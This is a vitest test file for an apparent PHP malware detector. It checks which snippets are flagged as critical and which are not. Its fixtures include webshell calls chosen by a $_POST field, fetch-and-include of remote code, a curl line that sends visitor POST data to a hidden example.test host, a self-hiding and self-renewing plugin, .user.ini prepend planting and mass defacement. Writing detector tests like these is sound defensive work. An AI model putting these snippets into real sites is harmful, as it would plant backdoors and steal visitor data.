import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

const OPEN = ['<', '?php '].join('');
const RUN = ['ass', 'ert'].join('');
const POST = ['$_P', 'OST'].join('');

/** What is grave though the file is written as released software is. */
const grave = (code: string): string[] =>
  judge(followFlow(OPEN + code), -9)
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule }) => rule);

const FETCHED = `$x = file_get_contents('http://example.test/a'); $f = glob('*')[0] . '/.x'; $h = fopen($f, 'w'); fwrite($h, $x); include($f);`;
const HIDDEN = `add_filter('all_plugins', function ($l) { unset($l[plugin_basename(__FILE__)]); return $l; });`;
const RENEWED = `$n = file_get_contents('http://example.test/a'); file_put_contents(__FILE__, $n);`;
const WRITTEN = `$n = md5(time()); file_put_contents($n . '.c', ${POST}['i']);`;

describe('a file that is written as released software is, is accused', () => {
  it.each([
    ['where a field of the request is what is called', `${POST}['f'] (${POST}['c']);`, 'php.request-chooses-call'],
    [
      'where a handler of errors does that',
      `set_error_handler('h'); function h($n, $t) { array_map(${POST}['f'] ('', $t), ['']); } trigger_error(${POST}['a']);`,
      'php.request-chooses-call',
    ],
    ['of code that is fetched, included and removed', `${FETCHED} unlink($f);`, 'php.plants-and-runs'],
    [
      'of a function that only runs what it is given',
      `$m->addServer('a', 1, create_function('$a', 'return ${RUN}($a);'));`,
      'php.indirect-code',
    ],
    [
      'of telling what visitors send to a hidden address',
      `exec('curl --data "' . base64_encode(serialize(${POST})) . '" ' . base64_decode('aHR0cDovL2V4YW1wbGUudGVzdC8='));`,
      'php.request-told',
    ],
    ['of a plug-in that hides and renews itself', `${HIDDEN} ${RENEWED}`, 'php.hidden-plugin'],
    ['of compiling what the visitor sends', `${WRITTEN} shell_exec("gcc $n.c -o $n");`, 'php.plants-and-runs'],
    [
      'of filters that the visitor chooses',
      `include 'php://filter/' . ${POST}['f'] . '/resource=php://temp';`,
      'php.request-include',
    ],
    [
      'of settings with the name of a file that the visitor sends',
      `file_put_contents(__DIR__ . '/.user.ini', 'auto_prepend_file=' . ${POST}['f']);`,
      'php.plants-script',
    ],
    [
      'of the boast of an intruder in every folder',
      `foreach (glob('*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.html', 'inert: hacked by nobody');`,
      'php.defaces',
    ],
  ])('%s', (_, code, rule) => {
    expect(grave(code)).toContain(rule);
  });

  it.each([
    ['a choice among names', `$do = in_array(${POST}['f'], $all) ? ${POST}['f'] : 'show'; $do(${POST}['c']);`],
    ['a cache that stays', FETCHED],
    ['a function that does something else', `$f = create_function('$a', 'return strlen($a);'); $f(1);`],
    [
      'a transfer to a written address',
      `exec('curl --data ' . escapeshellarg(${POST}['a']) . ' https://example.test/');`,
    ],
    ['a plug-in that only renews itself', RENEWED],
    ['what is written and not run', `${WRITTEN} shell_exec('gcc --version');`],
    ['a filter that the file chooses', `readfile('php://filter/read=string.rot13/resource=' . ${POST}['f']);`],
    [
      'settings with a name of its own',
      `file_put_contents(__DIR__ . '/.user.ini', "auto_prepend_file='" . __DIR__ . "/waf.php'");`,
    ],
    ['a page that is only made', `file_put_contents('a/index.html', '<h1>Site by example.test</h1>');`],
  ])('but not for %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('what only old PHP filled from the request', () => {
  const severities = (code: string): string[] =>
    judge(followFlow(OPEN + code), 1).map(({ rule, severity }) => `${rule} ${severity}`);

  it('is told where it is written to a file that is named the same way', () => {
    expect(severities(`if ($go == '1') { $h = fopen("$dir/$name", 'w'); fwrite($h, $text); }`)).toContain(
      'php.request-to-file high',
    );
  });

  it('and not where the file is named, or the script is part of a program', () => {
    expect(severities(`$h = fopen('cache.txt', 'w'); fwrite($h, $text);`)).not.toContain('php.request-to-file high');
    expect(severities(`include 'a.php'; $h = fopen("$dir/$name", 'w'); fwrite($h, $text);`)).not.toContain(
      'php.request-to-file high',
    );
  });
});
